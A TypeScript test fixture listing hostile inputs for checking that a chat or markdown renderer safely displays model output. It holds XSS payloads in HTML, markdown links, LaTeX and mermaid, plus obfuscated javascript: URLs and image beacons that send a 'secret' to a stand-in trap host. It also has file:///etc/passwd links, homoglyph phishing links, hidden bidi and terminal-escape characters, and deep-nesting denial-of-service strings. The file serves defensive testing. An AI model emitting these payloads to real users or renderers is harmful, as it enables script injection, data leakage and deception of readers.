/**
 * What a model may write to harm its reader. Everything that runs calls `alert` or sets `ran`; everything that
 * fetches asks TRAP; everything that only wears down is long, deep or invisible.
 */
export const TRAP = 'https://trap.invalid';
const LOUD = 'alert(1);globalThis.ran=1';
const DEEP = 10_000;

/** Markup that may stand together in one message: each piece ends where it ends. */
export const MARKUP: readonly string[] = [
	`<script>${LOUD}</script>`,
	`<img src=x onerror="${LOUD}">`,
	`<svg onload="${LOUD}"><animate onbegin="${LOUD}" attributeName=x dur=1s></svg>`,
	`<svg><script href="${TRAP}/s.js"></script><use href="${TRAP}/s.svg#x"/><image href="${TRAP}/i.png"/></svg>`,
	`<iframe srcdoc="<script>parent.ran=1</script>" src="${TRAP}/frame"></iframe>`,
	`<object data="${TRAP}/o.swf"></object><embed src="${TRAP}/e.swf">`,
	`<form action="${TRAP}/form"><input autofocus onfocus="${LOUD}"><button formaction="javascript:${LOUD}">Go on</button></form>`,
	`<meta http-equiv="refresh" content="0;url=${TRAP}/refresh">`,
	`<base href="${TRAP}/">`,
	`<link rel="stylesheet" href="${TRAP}/l.css"><link rel="prefetch" href="${TRAP}/p">`,
	`<style>@import url("${TRAP}/i.css"); body { background: url(${TRAP}/b.png); display: none }</style>`,
	`<p style="position: fixed; inset: 0; background: url(${TRAP}/p.png)">All over the page</p>`,
	`<video src="${TRAP}/v.mp4" poster="${TRAP}/v.png" autoplay onplay="${LOUD}"></video>`,
	`<picture><source srcset="${TRAP}/1x.png 1x, ${TRAP}/2x.png 2x"><img src="${TRAP}/p.png" srcset="${TRAP}/3x.png 3x"></picture>`,
	`<math><maction actiontype="statusline" xlink:href="javascript:${LOUD}">x</maction></math>`,
	`<details open ontoggle="${LOUD}"><summary>More</summary></details>`,
	`<a href="javascript:${LOUD}" ping="${TRAP}/ping">a link of its own</a>`,
	`<textarea></title></style></script><img src=x onerror="${LOUD}"></textarea>`,
	// Addresses
	`[one](javascript:${LOUD}) [two](JaVaScRiPt:${LOUD}) [three](java\tscript:${LOUD}) [four](<javascript:${LOUD}>)`,
	`[five](&#106;avascript:${LOUD}) [six](javascript&colon;${LOUD}) [seven](%6Aavascript:${LOUD}) [eight](\u0001javascript:${LOUD})`,
	`[data](data:text/html,<script>${LOUD}</script>) [vb](vbscript:msgbox(1)) [file](file:///etc/passwd) [blob](blob:${TRAP}/x)`,
	`[about](about:blank) [view](view-source:${TRAP}) [fs](filesystem:${TRAP}/x) [ms](ms-settings:home) [tel](tel:123)`,
	`[relative](//trap.invalid/x) [path](/api/relay) [up](../../settings) [hash](#t=0123) [query](?at=1)`,
	`<javascript:${LOUD}> <data:text/html,x> <${TRAP}/auto>`,
	`[ref] and [words][ref] and ![picture][ref]\n\n[ref]: javascript:${LOUD} "title\u0022 onmouseover=${LOUD}"`,
	`[named](https://someone:secret@trap.invalid/x "a \u0022title\u0022 onclick=${LOUD}")`,
	`[https://example.org/account](${TRAP}/lie) [аррӏе.com](https://аррӏе.com/)`,
	`![beacon](${TRAP}/p.gif?d=secret) ![](${TRAP}/empty.png) ![x](data:image/svg+xml,<svg/onload=${LOUD}>) ![y](http://127.0.0.1:9/reboot)`,
	`[![nested](${TRAP}/n.png)](javascript:${LOUD})`,
	// Maths
	String.raw`$\href{javascript:alert(1)}{x}$ $\url{javascript:alert(1)}$ $\includegraphics{${TRAP}/g.png}$`,
	String.raw`$\htmlClass{fixed inset-0}{x}$ $\htmlId{root}{x}$ $\htmlStyle{position:fixed}{x}$ $\htmlData{x=y}{z}$ $\class{fixed}{x}$`,
	String.raw`$\rule{99999em}{99999em}$ $\hspace{-9999em}x$ $\raisebox{9999em}{x}$ $\text{</annotation><script>alert(1)</script>}$`,
	String.raw`$$\begin{equation}\label{ran}x\end{equation}$$ $\ref{ran}$ $\def\a{\a\a}\a$ $\unicode{x3c}$`,
	// Fences
	'```html onload=alert(1) style="x"\n<img src="https://trap.invalid/code.png" onerror="alert(1)">\u202e\n```',
	'```constructor\nx\n```\n\n```__proto__\nx\n```\n\n```"><script>alert(1)</script>\nx\n```',
	'~~~' + 'long-info-'.repeat(300) + '\nx\n~~~',
	'```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"] --> B\nclick A "javascript:alert(1)"\n```',
	'| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n| :-- | --: |\n| `<b>` | ![t](https://trap.invalid/t.png) |',
	// Characters
	'turned \u202e around, \u2066isolated\u2069, zero\u200bwidth\u200d, mark\u2060ed\ufeff, tag \u{e0041}\u{e0042}',
	`floods: ${'Z' + '\u0335\u0321\u0300\u0301\u0302\u0489'.repeat(60)} above and below`,
	'a NUL\u0000, a bell\u0007, escapes \u001b[31mred\u001b[0m \u001b]8;;https://trap.invalid\u0007link\u001b]8;;\u0007, \u009b2J',
	'halves of letters \ud83d and \ude00, not letters \ufffe \uffff, ends of line \u2028\u2029\u0085'
];

/** What must not be closed by what follows it, or is too much by itself. */
export const FLOODS: Readonly<Record<string, string>> = {
	'an open comment': `<!-- <script>${LOUD}</script>`,
	'an open fence': '````md\n```\n<script>alert(1)</script>',
	'deep quotes': '>'.repeat(DEEP) + ' deep',
	'deep lists': '- '.repeat(DEEP) + 'deep',
	'deep indents': Array.from({ length: 400 }, (_, i) => `${'  '.repeat(i)}- x`).join('\n'),
	'deep brackets': '['.repeat(DEEP) + 'deep' + '](x)'.repeat(DEEP),
	'deep emphasis': '**a *b '.repeat(DEEP / 4) + 'c* d**'.repeat(DEEP / 4),
	'deep tags': '<div>'.repeat(DEEP) + '<b '.repeat(DEEP),
	'open maths': '\\[a\n'.repeat(DEEP / 2) + '$$b'.repeat(DEEP / 2),
	'deep maths': `$${'{'.repeat(4900)}x${'}'.repeat(4900)}$`,
	'a very long word': 'x'.repeat(200_000),
	'many rows': 'a|b\n-|-\n' + 'x|y\n'.repeat(2000)
};

/** Short enough for a name, a title, a label. */
export const NAME = `<img src=x onerror=alert(1)> \u202e[x](javascript:alert(1))\u0000\u001b[31m Z\u0335\u0321\u0300`;
